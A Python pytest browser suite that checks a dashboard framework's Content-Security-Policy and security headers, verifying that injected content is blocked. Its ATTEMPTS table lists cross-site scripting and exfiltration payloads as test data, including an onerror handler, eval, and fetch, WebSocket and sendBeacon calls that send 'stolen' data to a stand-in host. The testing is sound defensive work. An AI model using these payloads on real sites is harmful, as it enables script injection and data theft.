"""The page's policy: what it stops is stopped, and nothing that we show needs what it stops."""

from __future__ import annotations

import re
import time
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any

import pytest
from tests.conftest import Opener, Visit
from tests.kit import Answer, Server, State, serving_plugin, until

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.browser

#: Everything that draws in a browser, and two things that make scripts from text.
PLUGIN = '''
from muntin import Feed, Page, Panel, hookimpl

TICK = Feed("tick", lambda raw: dict(raw), example={"n": 1, "updated_ts": 0})
TIPS = {"tools": ["hover"]}

def curve(snapshot):
    import holoviews as hv
    hv.extension("bokeh", logo=False)
    return hv.Curve([(i, i % 7) for i in range(snapshot[TICK]["n"])], "t", "v").opts(**TIPS)

def heat(snapshot):
    import holoviews as hv
    hv.extension("bokeh", logo=False)
    points = [(i, j, i * j) for i in range(4) for j in range(4)]
    return hv.HeatMap(points).opts(colorbar=True, **TIPS)

def plot(snapshot):
    from bokeh.plotting import figure
    made = figure(tools="pan,wheel_zoom,box_zoom,reset,hover,save", height=200)
    made.line([1, 2, 3], [3, 1, 2], legend_label="a line")
    return made

def grid(snapshot):
    import pandas, panel
    return panel.widgets.Tabulator(pandas.DataFrame({"a": [1, 2], "b": ["x", "<b>y"]}), height=150)

def desk(snapshot):
    import panel as pn
    said, button = pn.pane.Str("pressed 0"), pn.widgets.Button(name="press")
    button.on_click(lambda event: setattr(said, "object", f"pressed {button.clicks}"))
    more = (pn.widgets.IntSlider(end=9), pn.widgets.Select(options=["p", "q"]),
            pn.widgets.DatetimePicker(), pn.widgets.TextInput(), pn.widgets.Checkbox(),
            pn.indicators.Number(value=3, name="k"), pn.widgets.MultiSelect(options=["a"]))
    return pn.Column(button, said, *more)

def custom(snapshot):
    from bokeh.models import Button, CustomJS
    button = Button(label="go")
    button.js_on_click(CustomJS(code="document.title = 'ran'"))
    return button

def component(snapshot):
    import panel as pn

    class Word(pn.custom.JSComponent):
        _esm = """export function render() {
          const made = document.createElement("b"); made.textContent = "a component"; return made;
        }"""

    return Word()

@hookimpl
def muntin_pages(settings):
    shown = tuple(Panel(view.__name__, view, needs=(TICK,)) for view in (curve, heat, plot, grid))
    yield Page("shared", "Shared", shown, 1)
    desks = (*shown, Panel("desk", desk, needs=(TICK,)))
    yield Page("private", "Private", desks, 2, scope="private")
    yield Page("custom", "Custom", (Panel("custom", custom, needs=(TICK,)),), 3)
    yield Page("component", "Component", (Panel("component", component, needs=(TICK,)),), 4)
'''

#: What Panel says of its own libraries, in any page.
_CHATTER = ("Deprecation warning: allowHTML", "Failed to add import map")


def started(root: Any, scripts: str) -> Iterator[Server]:
    tick(State(root / "state"), 10)
    settings = f'[site]\nscripts = "{scripts}"'
    with serving_plugin(root, "drawing", PLUGIN, settings=settings) as server:
        for page in ("shared", "private", "custom", "component"):
            drawn(server, page)
        yield server


def drawn(server: Server, page: str) -> None:
    """Wait until a page is drawn; the libraries that it needs take their time to be imported."""
    until(lambda: server.get(f"/{page}").status == 200, f"/{page} is drawn", 90)


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    yield from started(tmp_path_factory.mktemp("policy"), "strict")


@pytest.fixture(scope="module")
def lenient(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    yield from started(tmp_path_factory.mktemp("lenient"), "eval")


def tick(state: State, n: int) -> None:
    state.put("tick", {"n": n, "updated_ts": time.time()})


def said(visit: Visit) -> list[str]:
    """Return what the page has fired or complained about."""
    fired: list[str] = visit.js("window.__fired")
    return fired + [line for line in visit.console if not any(one in line for one in _CHATTER)]


def hover(visit: Visit) -> None:
    """Move over every chart, and drag in it as one who zooms."""
    for slot in visit.page.locator("[data-slot]").all():
        slot.scroll_into_view_if_needed()
        box = slot.bounding_box()
        assert box is not None
        mouse = visit.page.mouse
        for part in (0.3, 0.5, 0.7):
            mouse.move(box["x"] + box["width"] * part, box["y"] + box["height"] * 0.5)
        mouse.down()
        mouse.move(box["x"] + box["width"] * 0.8, box["y"] + box["height"] * 0.7)
        mouse.up()


@pytest.mark.parametrize("path", ["/shared", "/private"])
def test_all_charts_and_tables_keep_to_the_policy(
    server: Server, visiting: Opener, path: str
) -> None:
    visit = visiting(server, path=path).wait_drawn()
    visit.page.locator(".tabulator-row").first.wait_for()
    hover(visit)
    tick(server.state, 30)
    visit.wait("document.querySelectorAll('[data-slot] > *').length >= 4")

    assert said(visit) == []


def test_a_widget_of_a_private_page_reaches_its_server(server: Server, visiting: Opener) -> None:
    visit = visiting(server, path="/private").wait_drawn()
    visit.page.get_by_role("button", name="press").click()
    visit.page.get_by_text("pressed 1").wait_for()

    assert said(visit) == []


def test_a_script_made_from_text_does_not_run_and_the_page_says_why(
    server: Server, visiting: Opener
) -> None:
    visit = visiting(server, path="/custom").wait_drawn()
    visit.page.get_by_role("button", name="go", exact=True).click()
    visit.wait("window.__fired.length", seconds=8)

    assert visit.page.title() != "ran"
    assert any('scripts = "eval"' in line for line in visit.console)


def test_the_operator_may_allow_scripts_made_from_text(lenient: Server, visiting: Opener) -> None:
    visit = visiting(lenient, path="/custom").wait_drawn()
    visit.page.get_by_role("button", name="go", exact=True).click()
    visit.wait("document.title === 'ran'", seconds=8)

    assert said(visit) == []


def test_a_component_with_a_module_of_its_own_needs_no_leave(
    server: Server, visiting: Opener
) -> None:
    visit = visiting(server, path="/component").wait_drawn()
    visit.page.get_by_text("a component").wait_for()

    assert said(visit) == []


#: What somebody who got markup or a little script into the page would try next.
ATTEMPTS = {
    "an inline script": "add('script', {textContent: 'window.__fired.push(1)'})",
    "a script of the server's own, without the nonce":
        "add('script', {src: document.querySelector('script[src]').src})",
    "the page itself as a script": "add('script', {src: location.href})",
    "operators' data as a script": "add('script', {src: '/-/feeds'})",
    "a script from elsewhere": "add('script', {src: 'http://127.0.0.2:9/x.js'})",
    "a script of data": "add('script', {src: 'data:text/javascript,window.__fired.push(1)'})",
    "a handler": "add('div', {innerHTML: '<img src=x onerror=window.__fired.push(1)>'})",
    "text as a script": "attempt(() => eval('window.__fired.push(1)'))",
    "a function of text": "attempt(() => new Function('window.__fired.push(1)')())",
    "a timer of text": "attempt(() => setTimeout('window.__fired.push(1)'))",
    "a module of a blob":
        "attempt(() => import(URL.createObjectURL(new Blob(['window.__fired.push(1)'],"
        " {type: 'text/javascript'}))))",
    "a worker": "attempt(() => new Worker('/static/x.js'))",
    "an image from elsewhere": "add('img', {src: 'http://127.0.0.2:9/?stolen'})",
    "a style sheet from elsewhere": "add('link', {rel: 'stylesheet', href: 'http://127.0.0.2:9/'})",
    "a font from elsewhere":
        "add('style', {textContent: '@font-face{font-family:x;src:url(http://127.0.0.2:9/)}'"
        " + 'body{font-family:x}'})",
    "a request elsewhere": "attempt(() => fetch('http://127.0.0.2:9/'))",
    "a socket elsewhere": "attempt(() => new WebSocket('ws://127.0.0.2:9/'))",
    "a beacon": "attempt(() => navigator.sendBeacon('http://127.0.0.2:9/', 'stolen'))",
    "a frame": "add('iframe', {src: '/overview'})",
    "an object": "add('object', {data: '/overview'})",
    "another base": "add('base', {href: 'http://127.0.0.2:9/'})",
    "a form to elsewhere":
        "add('form', {action: 'http://127.0.0.2:9/', method: 'post'}).submit()",
}  # fmt: skip

#: Runs an attempt as a script of the page would: what the test's own tool starts may do more.
_TRY = """() => new Promise((done) => setTimeout(() => {
  const add = (tag, more) => document.body.appendChild(Object.assign(document.createElement(tag), more));
  const attempt = (what) => { try { what()?.catch?.(() => {}); } catch { } };
  window.__fired.length = 0;
  addEventListener("securitypolicyviolation", () => setTimeout(() => done("stopped")), {once: true});
  setTimeout(() => done("not stopped"), 3000);
  %s;
}))"""  # noqa: E501


@pytest.fixture(scope="module")
def broken_into(server: Server, visiting: Opener) -> Visit:
    return visiting(server, path="/shared").wait_drawn()


@pytest.mark.parametrize("attempt", ATTEMPTS)
def test_what_gets_into_a_page_gets_no_further(broken_into: Visit, attempt: str) -> None:
    assert broken_into.js(_TRY % ATTEMPTS[attempt]) == "stopped"

    fired = broken_into.js("window.__fired")
    assert [one for one in fired if not str(one).startswith("policy: ")] == []


def test_a_frame_of_markup_is_bound_as_its_page_is(broken_into: Visit) -> None:
    broken_into.js(
        "() => new Promise((done) => document.body.appendChild(Object.assign("
        "document.createElement('iframe'), {onload: done,"
        " srcdoc: '<script>parent.__fired.push(1)</script>'})))"
    )

    assert 1 not in broken_into.js("window.__fired")


def test_nobody_frames_a_page(server: Server, browser: Browser) -> None:
    page = browser.new_page()
    page.goto(server.url + "/healthz")
    page.evaluate("document.body.innerHTML = ''")
    page.set_content(f'<iframe src="{server.url}/shared"></iframe>')
    frame = page.frames[-1]
    frame.wait_for_load_state()

    assert frame.query_selector("main") is None
    page.close()


# ---------------------------------------------------------------- headers, on every kind of answer

ANSWERS = (
    "/", "/shared", "/private", "/-/", "/-/feeds", "/-/plugins", "/-/panels", "/metrics",
    "/healthz", "/readyz", "/nothing", "/static/0123456789abcdef/none.js", "/shared?theme=dark",
)  # fmt: skip


def policy(answer: Answer) -> dict[str, list[str]]:
    parts = (part.split() for part in answer.headers["Content-Security-Policy"].split(";"))
    return {part[0]: part[1:] for part in parts}


@pytest.mark.parametrize("path", ANSWERS)
def test_every_answer_binds_the_browser(server: Server, path: str) -> None:
    answer = server.get(path)
    rules = policy(answer)

    assert rules["default-src"] == rules["base-uri"] == rules["frame-ancestors"] == ["'none'"]
    assert not {"'unsafe-eval'", "'unsafe-inline'", "blob:", "*"} & set(rules["script-src"])
    assert not re.search(r"https?:|ws:|\*", answer.headers["Content-Security-Policy"])
    assert answer.headers["X-Content-Type-Options"] == "nosniff"
    assert answer.headers["Referrer-Policy"] == "no-referrer"
    assert answer.headers["Cross-Origin-Opener-Policy"] == "same-origin"
    assert answer.headers["Cross-Origin-Resource-Policy"] == "same-origin"
    assert "camera=()" in answer.headers["Permissions-Policy"]
    assert not {"Server", "X-Powered-By"} & set(answer.headers)


@pytest.mark.parametrize("path", ["/shared", "/private", "/-/"])
def test_every_script_of_a_page_has_the_nonce_of_its_answer(server: Server, path: str) -> None:
    answer = server.get(path)
    [nonce] = policy(answer)["script-src"]
    tags = re.findall(r"<script[^>]*\bsrc=[^>]*>", answer.text)

    assert tags
    assert {f"'nonce-{one}'" for tag in tags for one in re.findall(r'nonce="([^"]+)"', tag)} == {
        nonce
    }
    assert len(nonce) > 24


def test_no_two_pages_have_a_nonce_in_common(server: Server) -> None:
    nonces = [policy(server.get("/private"))["script-src"][0] for _ in range(5)]

    assert len(set(nonces)) == 5


@pytest.mark.parametrize("path", ["/nothing", "/-/feeds", "/metrics", "/healthz"])
def test_an_answer_without_scripts_allows_none(server: Server, path: str) -> None:
    assert policy(server.get(path))["script-src"] == ["'none'"]


def test_only_script_files_are_sent_as_scripts(server: Server) -> None:
    """So that with ``nosniff`` nothing that a document says can be loaded as one."""
    kinds = {path: server.get(path).headers.get("Content-Type", "") for path in ANSWERS}

    assert [path for path, kind in kinds.items() if "javascript" in kind] == []
